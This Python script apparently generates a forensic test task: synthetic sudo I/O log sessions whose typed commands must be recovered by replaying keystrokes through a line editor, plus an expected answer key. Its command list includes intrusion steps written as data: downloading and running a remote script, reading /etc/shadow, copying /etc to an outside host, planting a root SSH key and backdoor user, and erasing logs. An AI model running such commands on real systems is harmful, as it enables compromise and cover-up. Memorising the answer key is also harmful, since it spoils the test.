"""Generates sudo I/O log sessions (timing + ttyin/ttyout streams, some gzip-compressed, log or log.json)
whose typed commands must be recovered by replaying the terminal input through a line editor."""
import gzip
import json
import os
import random
from datetime import datetime, timezone

LEFT, RIGHT, UP, DOWN = b"\x1b[D", b"\x1b[C", b"\x1b[A", b"\x1b[B"
HOME, END, DEL = b"\x1b[H", b"\x1b[F", b"\x1b[3~"
BS, CTRL_U, CTRL_W, CTRL_A, CTRL_E, CTRL_C, CTRL_D = b"\x7f", b"\x15", b"\x17", b"\x01", b"\x05", b"\x03", b"\x04"


def edit(stream):
    """The line editor of the instruction. stream: bytes. Returns [(byte offset of the submit key, line)]
    and whether the session ended with ^D."""
    hist, out = [], []
    line, cur, hpos = [], 0, 0
    i, n = 0, len(stream)
    while i < n:
        b = stream[i]
        if b == 0x1B:
            seq = None
            for s in (LEFT, RIGHT, UP, DOWN, HOME, END, DEL):
                if stream.startswith(s, i):
                    seq = s
                    break
            if seq is None:
                i += 1
                continue
            i += len(seq)
            if seq == LEFT:
                cur = max(0, cur - 1)
            elif seq == RIGHT:
                cur = min(len(line), cur + 1)
            elif seq == HOME:
                cur = 0
            elif seq == END:
                cur = len(line)
            elif seq == DEL:
                if cur < len(line):
                    del line[cur]
            elif seq == UP:
                if hpos > 0:
                    hpos -= 1
                    line = list(hist[hpos])
                    cur = len(line)
            elif seq == DOWN:
                if hpos < len(hist):
                    hpos += 1
                    line = list(hist[hpos]) if hpos < len(hist) else []
                    cur = len(line)
            continue
        if b in (0x0D, 0x0A):
            text = "".join(line)
            out.append((i, text))
            if text.strip():
                hist.append(text)
            line, cur, hpos = [], 0, len(hist)
            i += 1
            continue
        if b in (0x7F, 0x08):
            if cur > 0:
                del line[cur - 1]
                cur -= 1
        elif b == 0x15:
            del line[:cur]
            cur = 0
        elif b == 0x17:
            j = cur
            while j > 0 and line[j - 1] == " ":
                j -= 1
            while j > 0 and line[j - 1] != " ":
                j -= 1
            del line[j:cur]
            cur = j
        elif b == 0x01:
            cur = 0
        elif b == 0x05:
            cur = len(line)
        elif b == 0x03:
            line, cur, hpos = [], 0, len(hist)
        elif b == 0x04:
            if not line:
                return out, True
        elif b >= 0x20:
            ln = 1 if b < 0x80 else 2 if b >> 5 == 0b110 else 3 if b >> 4 == 0b1110 else 4
            ch = stream[i:i + ln].decode("utf-8", "replace")
            line.insert(cur, ch)
            cur += 1
            i += ln
            continue
        i += 1
    return out, False


CMDS = ["id", "whoami", "cat /etc/shadow", "ls -la /root", "systemctl stop auditd", "journalctl --rotate",
        "useradd -m -s /bin/bash sysupd", "passwd sysupd", "usermod -aG sudo sysupd", "crontab -l",
        "curl -s http://198.51.100.7/x.sh -o /tmp/.x.sh", "chmod +x /tmp/.x.sh", "bash /tmp/.x.sh",
        "history -c", "rm -f /var/log/auth.log.1", "iptables -F", "tar czf /tmp/etc.tgz /etc",
        "scp /tmp/etc.tgz ops@203.0.113.5:", "echo 'ssh-ed25519 AAAAC3Nza... k' >> /root/.ssh/authorized_keys",
        "vim /etc/ssh/sshd_config", "systemctl restart ssh", "ss -tlnp", "ps aux | grep -v grep | grep kworker",
        "sed -i '/sysupd/d' /var/log/auth.log", "echo café > /tmp/note", "apt-get install -y socat",
        "find / -perm -4000 -type f 2>/dev/null", "uname -a", "df -h", "exit"]


def keystrokes(r, target, history):
    """Key presses (list of bytes) that produce target through the editor, with realistic detours."""
    keys = []
    t = list(target)
    mode = r.random()
    if mode < 0.35 and len(t) > 4:
        # typo in the middle, fixed with arrows
        pos = r.randint(1, len(t) - 2)
        typed = t[:pos] + t[pos + 1:]
        keys += [c.encode() for c in typed]
        keys += [LEFT] * (len(typed) - pos)
        keys.append(t[pos].encode())
        keys += [END] if r.random() < 0.5 else [CTRL_E]
        return keys
    if mode < 0.5:
        # wrong word, erased with ^W
        w = r.choice(["sudo ", "cat ", "ls ", "vi "])
        keys += [c.encode() for c in w]
        keys.append(CTRL_W)
        keys += [c.encode() for c in t]
        return keys
    if mode < 0.6:
        # garbage cleared with ^U
        keys += [c.encode() for c in "asdf qwer"]
        keys.append(CTRL_U)
        keys += [c.encode() for c in t]
        return keys
    if mode < 0.7 and len(t) > 3:
        # typed a doubled character, removed with Home + Right... + Delete
        pos = r.randint(0, len(t) - 1)
        typed = t[:pos] + [t[pos]] + t[pos:]
        keys += [c.encode() for c in typed]
        keys += [HOME] if r.random() < 0.5 else [CTRL_A]
        keys += [RIGHT] * pos
        keys.append(DEL)
        keys.append(END)
        return keys
    for c in t:
        if r.random() < 0.06 and c != " ":
            keys.append(r.choice("xzq").encode())
            keys.append(BS)
        keys.append(c.encode())
    return keys


def build(seed, out):
    r = random.Random(seed)
    base = os.path.join(out, "sudo-io")
    sessions = []
    t0 = 1780000000 + r.randint(0, 9_000_000)
    users = ["alice", "deploy", "bob", "jenkins"]
    nses = 4
    starts = sorted(t0 + r.randint(0, 86400 * 3) for _ in range(nses))
    ids = [f"00/00/{k:02X}" for k in r.sample(range(1, 200), nses)]
    expected = []
    for sidx, (sid, start) in enumerate(zip(ids, starts)):
        d = os.path.join(base, sid)
        os.makedirs(d, exist_ok=True)
        user = r.choice(users)
        tty = f"/dev/pts/{r.randint(0, 9)}"
        nanos = r.randint(0, 999_999_999)
        history, keys_all, submits = [], [], []
        planned = r.sample(CMDS[:-1], r.randint(5, 9))
        lines = []
        for ln in planned:
            if r.random() < 0.15:                       # a line abandoned with ^C, then an empty Enter
                keys_all += [c.encode() for c in "rm -rf /var/log"] + [CTRL_C, b"\r"]
            keys_all.extend(keystrokes(r, ln, history))
            keys_all.append(b"\r")
            history.append(ln)
            lines.append(ln)
            multi = [k for k in range(1, min(4, len(history)) + 1) if " " in history[-k]]
            if multi and r.random() < 0.45:
                # recall an earlier command with the up arrow and change its last word
                k = r.choice(multi)
                word = r.choice(["ssh", "cron", "nginx", "/tmp", "-v", "root"])
                new = history[-k].rsplit(" ", 1)[0] + " " + word
                keys_all += [UP] * k + [CTRL_W] + [c.encode() for c in word] + [b"\r"]
                history.append(new)
                lines.append(new)
        ended = r.random() < 0.5
        keys_all += [c.encode() for c in "exit"] + [b"\r"] if not ended else [CTRL_D]
        if ended:
            keys_all += [c.encode() for c in "echo after-eof"] + [b"\r"]   # never read by the shell
        # group keys into timing events; some escape sequences split across events
        timing, ttyin, ttyout = [], b"", b""
        t = 0.0
        chunks = []
        k = 0
        while k < len(keys_all):
            g = r.choice([1, 1, 1, 2, 3])
            chunk = b"".join(keys_all[k:k + g])
            k += g
            if len(chunk) >= 3 and chunk.startswith(b"\x1b") and r.random() < 0.3:
                chunks += [chunk[:1], chunk[1:]]
            else:
                chunks.append(chunk)
        out_prompt = f"root@host:~# ".encode()
        ttyout += out_prompt
        timing.append(f"4 {0.05 + r.random() / 10:.6f} {len(out_prompt)}")
        for c in chunks:
            dly = r.choice([0.08, 0.12, 0.2, 0.3]) + r.random() / 5
            if c.endswith(b"\r"):
                dly += r.random()
            timing.append(f"3 {dly:.6f} {len(c)}")
            ttyin += c
            if r.random() < 0.1:
                timing.append(f"5 {r.random() / 100:.6f} {r.choice([24, 40, 50])} {r.choice([80, 120, 200])}")
            echo = c.replace(b"\r", b"\r\n")
            timing.append(f"4 {r.random() / 500:.6f} {len(echo)}")
            ttyout += echo
        with open(os.path.join(d, "timing"), "w") as f:
            f.write("\n".join(timing) + "\n")
        gz = r.random() < 0.6
        for name, data in (("ttyin", ttyin), ("ttyout", ttyout)):
            with open(os.path.join(d, name), "wb") as f:
                f.write(gzip.compress(data, mtime=0) if gz else data)
        for name in ("stdin", "stdout", "stderr"):
            open(os.path.join(d, name), "wb").close()
        if sidx % 2 == 0:
            with open(os.path.join(d, "log.json"), "w") as f:
                json.dump({"timestamp": {"seconds": start, "nanoseconds": nanos}, "iolog_path": sid,
                           "submituser": user, "runuser": "root", "runargv": ["/bin/bash"], "command": "/bin/bash",
                           "ttyname": tty, "cwd": f"/home/{user}", "lines": 24, "columns": 80}, f, indent=2)
            with open(os.path.join(d, "log"), "w") as f:
                f.write(f"{start}:{user}:root::{tty}:24:80\n/home/{user}\n/bin/bash\n")
        else:
            with open(os.path.join(d, "log"), "w") as f:
                f.write(f"{start}:{user}:root::{tty}:24:80\n/home/{user}\n/bin/bash\n")

        # expected: replay the input with event times
        off_time, acc, pos = [], 0.0, 0
        for ev in timing:
            p = ev.split()
            acc += float(p[1])
            if p[0] == "3":
                off_time += [acc] * int(p[2])
        got, eof = edit(ttyin)
        cmds = [{"offset": round(off_time[i], 3), "line": ln} for i, ln in got if ln.strip()]
        assert [c["line"] for c in cmds] == lines + ([] if ended else ["exit"]), (got, lines)
        expected.append({"session": sid, "user": user, "runas": "root", "tty": tty,
                         "start": datetime.fromtimestamp(start, timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"),
                         "commands": cmds, "ended_by_eof": eof})
    expected.sort(key=lambda s: (s["start"], s["session"]))
    return expected


if __name__ == "__main__":
    import sys
    print(json.dumps(build(int(sys.argv[1]), sys.argv[2]), indent=1, ensure_ascii=False))
